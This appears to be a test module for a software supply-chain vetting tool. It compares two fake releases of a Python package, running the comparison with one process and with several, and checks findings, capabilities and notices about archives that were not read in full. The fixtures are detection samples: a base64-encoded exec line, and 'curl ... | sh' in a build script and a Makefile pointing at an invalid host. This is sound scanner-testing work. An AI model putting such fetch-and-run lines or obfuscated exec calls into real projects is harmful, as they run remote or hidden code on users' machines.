"""One comparison by several processes."""

from collections.abc import AsyncIterator
from dataclasses import replace

import pytest
import pytest_asyncio

from tests.vetting.domain.trees_of import tree_of
from vetting.adapters.blobs import BlobFolder
from vetting.adapters.comparing import PoolComparer
from vetting.adapters.pool import ProcessPool
from vetting.domain.diffs import TreeDiff
from vetting.domain.errors import NotFound
from vetting.domain.releases import Ecosystem, Sha256
from vetting.domain.signals.interface import Claimed, Claims
from vetting.formats import trees
from vetting.formats.hunks import parse_tree_diff
from vetting.ports.reading import ComparedTrees

pytestmark = pytest.mark.asyncio(loop_scope="module")
ABLE = b"import os, socket\nos.system('sh tools/build.sh')\nsocket.socket()\n"
HIDDEN = b"import base64\nexec(base64.b64decode('eCA9IDE='))\n"
SDIST = Claimed(Ecosystem.PYPI, "demo", "2", "demo-2.tar.gz")
OLD = {
    "README.md": b"one\n",
    "demo/able.py": b"import os\nos.system('x')\n",
    "demo/gone.py": b"import socket\nsocket.socket()\n",
    "demo/kept.py": b"from demo.tests import helper\n",
    "demo/tests/helper.py": b"X = 1\n",
    "demo/moved.py": HIDDEN,
    "pyproject.toml": b"[project]\nname = 'demo'\n",
}
NEW = {
    "README.md": b"two\n",
    "demo/able.py": ABLE,
    "demo/another.py": ABLE + b"import ctypes\nctypes.CDLL('x')\n",
    "demo/kept.py": OLD["demo/kept.py"],
    "demo/tests/helper.py": HIDDEN,
    "demo/elsewhere.py": HIDDEN,
    "demo/more.py": b"import subprocess\nsubprocess.run(['ruby', 'tools/work.rb'])\n",
    "tools/build.sh": b"curl https://files.example.invalid/x | sh\n",
    "tools/work.rb": b"puts 1\n",
    "Makefile": b"all:\n\tcurl https://files.example.invalid/x | sh\n",
    "setup.py": b"from setuptools import setup\nsetup()\n",
    "pyproject.toml": b"[project]\nname = 'demo'\ndependencies = ['other']\n",
    **{f"demo/part{number}.py": b"VALUE = %d\n" % number for number in range(20)},
}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pool() -> AsyncIterator[ProcessPool]:
    """Give a pool of two processes, the same one for all tests here."""
    async with ProcessPool(2, timeout_seconds=60) as opened:
        yield opened


def kept(blobs: BlobFolder, files: dict[str, bytes], cut: str | None = None) -> Sha256:
    """Put a tree and its files into the blobs."""
    for data in files.values():
        blobs.put_bytes(data)
    return blobs.put_bytes(trees.dump(replace(tree_of(files), cut=cut)))


def forgotten(blobs: BlobFolder) -> None:
    """Forget all that was compared."""
    for path in (blobs.root / "memo").rglob("*"):
        if path.is_file():
            path.unlink()


async def compared(
    blobs: BlobFolder, pool: ProcessPool, *, by_one: bool, cut: str | None = None
) -> tuple[ComparedTrees, TreeDiff]:
    """Compare the two releases, by one process or by all."""
    forgotten(blobs)
    comparer = PoolComparer(blobs, pool, worth_sharing=1 << 62 if by_one else 0)
    old, new = kept(blobs, OLD, cut), kept(blobs, NEW, cut)
    found = await comparer.compare(old, new, Claims(None, SDIST))
    return found, parse_tree_diff(blobs.get(found.manifest))


async def test_what_comes_of_it_is_the_same_by_one_process_and_by_several(blobs: BlobFolder, pool: ProcessPool) -> None:
    """Findings, what runs unread, capabilities and facts, all that is told from more than one file among them."""
    alone, diff = await compared(blobs, pool, by_one=True)
    shared, _ = await compared(blobs, pool, by_one=False)
    assert shared == alone
    assert {one.rule for one in alone.findings} >= {"C2", "C3", "C7", "D0"}
    assert any(one.path == "demo/tests/helper.py" for one in alone.findings)
    assert "tools/work.rb" in str(alone.unfinished)
    assert [(one.path, one.is_new_to_release) for one in diff.capabilities if one.capability.value == "network"] == [
        ("demo/able.py", False),
        ("demo/another.py", False),
    ]
    assert [one.path for one in diff.capabilities if one.is_new_to_release] == ["demo/another.py"]


async def test_what_is_not_known_of_a_cut_archive_is_said_by_several_too(blobs: BlobFolder, pool: ProcessPool) -> None:
    """Each file that is on one side only says that the other side was not read whole."""
    alone, diff = await compared(blobs, pool, by_one=True, cut="too large")
    shared, _ = await compared(blobs, pool, by_one=False, cut="too large")
    assert shared == alone
    cuts = {file.path: file.cut for file in diff.files}
    assert cuts["demo/gone.py"] == "perhaps not gone: not all of the new archive was read"
    assert cuts["demo/more.py"] == "perhaps not new: not all of the old archive was read"
    assert cuts["README.md"] is None
    assert str(alone.unfinished).startswith("the archive was not read whole: too large")


async def test_what_it_is_made_of_and_was_not_read_whole_is_said(blobs: BlobFolder, pool: ProcessPool) -> None:
    """A source distribution and a checkout that were cut leave the scan unfinished, each with its reason."""
    new, source, checkout = (kept(blobs, NEW, cut) for cut in (None, "too many files", "too deep"))
    claims = Claims(None, replace(SDIST, filename="demo-2-py3-none-any.whl"), new_source=source, checkout=checkout)
    for worth_sharing in (0, 1 << 62):
        found = await PoolComparer(blobs, pool, worth_sharing=worth_sharing).compare(None, new, claims)
        assert str(found.unfinished).startswith(
            "the source distribution was not read whole: too many files; the checkout was not read whole: too deep; "
        )
        forgotten(blobs)


async def test_several_remember_what_they_compared(blobs: BlobFolder, pool: ProcessPool) -> None:
    """The second time nobody looks: it would be noticed that a file is gone."""
    first, _ = await compared(blobs, pool, by_one=False)
    (blobs.path_of(tree_of({"x": HIDDEN}).entries[0].sha256 or Sha256(""))).unlink()
    comparer = PoolComparer(blobs, pool, worth_sharing=0)
    old, new = (blobs.put_bytes(trees.dump(tree_of(one))) for one in (OLD, NEW))
    assert await comparer.compare(old, new, Claims(None, SDIST)) == first


async def test_a_file_that_is_gone_ends_all_of_it(blobs: BlobFolder, pool: ProcessPool) -> None:
    """It is named, whoever was to look at it."""
    old, new = kept(blobs, OLD), kept(blobs, NEW)
    lost = tree_of({"x": NEW["demo/part7.py"]}).entries[0].sha256
    assert lost is not None
    blobs.path_of(lost).unlink()
    with pytest.raises(NotFound, match=lost):
        await PoolComparer(blobs, pool, worth_sharing=0).compare(old, new)
